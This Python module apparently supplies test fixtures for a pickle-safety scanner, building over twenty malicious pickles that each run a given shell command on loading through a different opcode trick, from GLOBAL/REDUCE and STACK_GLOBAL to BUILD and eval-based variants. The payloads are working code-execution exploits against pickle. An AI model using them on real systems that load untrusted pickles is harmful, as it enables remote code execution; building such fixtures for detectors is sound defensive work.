"""Pickles that run a command when pickle reads them, each by another way.

The tests use harmless commands, such as one that makes an empty file.
"""

from __future__ import annotations

import os
import struct

MODULE = os.system.__module__.encode()

STAY_QUIET = frozenset(
    {"NEWOBJ", "NEWOBJ_EX", "getattr of a class", "_reconstructor", "factory", "codec", "PERSID",
     "BINPERSID"}
)  # fmt: skip
"""What pickle itself does not run as it is: parts that other attacks are made of."""


def call(command: str) -> bytes:
    """Write the part of a pickle that runs a command."""
    return b"c%s\nsystem\n(V%s\ntR" % (MODULE, command.encode())


def attacks(command: str) -> dict[str, bytes]:
    """Answer pickles by the opcode or the trick that reaches the command.

    "extension" needs ``copyreg.add_extension("posix", "system", 0xF0)`` to run under pickle.
    """
    text = command.encode()
    run = call(command)
    short = b"\x8c" + struct.pack("<B", len(text)) + text
    code = b"(V__import__('os').system('" + text + b"')\ntR0(d."
    return {
        "GLOBAL REDUCE": b"(dVa\n" + run + b"s.",
        "before the dict": run + b"0(d.",
        "key": b"(d" + run + b"I1\ns.",
        "STACK_GLOBAL": b"\x80\x04}\x8c\x01a\x8c\x05posix\x8c\x06system\x93" + short + b"\x85Rs.",
        "dotted": b"\x80\x04\x8c\x04uuid\x8c\x09os.system\x93" + short + b"\x85R0}.",
        "INST": b"(V" + text + b"\ni" + MODULE + b"\nsystem\n0(d.",
        "OBJ": b"(c" + MODULE + b"\nsystem\nV" + text + b"\no0(d.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n" + short + b"\x85\x810}.",
        "NEWOBJ_EX": b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93" + short + b"\x85}\x920}.",
        "eval": b"cbuiltins\neval\n" + code,
        "__builtin__ eval": b"c__builtin__\neval\n" + code,
        "getattr": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(V"
        + text + b"\ntR0(d.",
        "getattr of a class": b"cbuiltins\ngetattr\n(cdatetime\ndatetime\nV__class__\ntR0(d.",
        "_reconstructor": b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncbuiltins\nobject\n"
        b"NtR0(d.",
        "factory": b"ccollections\ndefaultdict\n(c" + MODULE + b"\nsystem\ntR(V"
        + text + b"\nI1\nu.",
        "codec": b"c_codecs\nencode\n(V" + text + b"\nVrot13\ntR0(d.",
        "BUILD state": b"cuuid\nUUID\n)\x81}V__class__\n" + run + b"sb0(d.",
        "BUILD slots": b"\x80\x02cuuid\nUUID\n)\x81N}Vint\n" + run + b"s\x86b0}.",
        "BUILD on a name": b"cuuid\nUUID\n}V__setstate__\n" + run + b"sb0(d.",
        "PERSID": b"(dVa\nP" + text + b"\ns.",
        "BINPERSID": b"\x80\x02}Va\nV" + text + b"\nQs.",
        "extension": b"\x80\x02}Va\n\x82\xf0(V" + text + b"\ntRs.",
    }  # fmt: skip
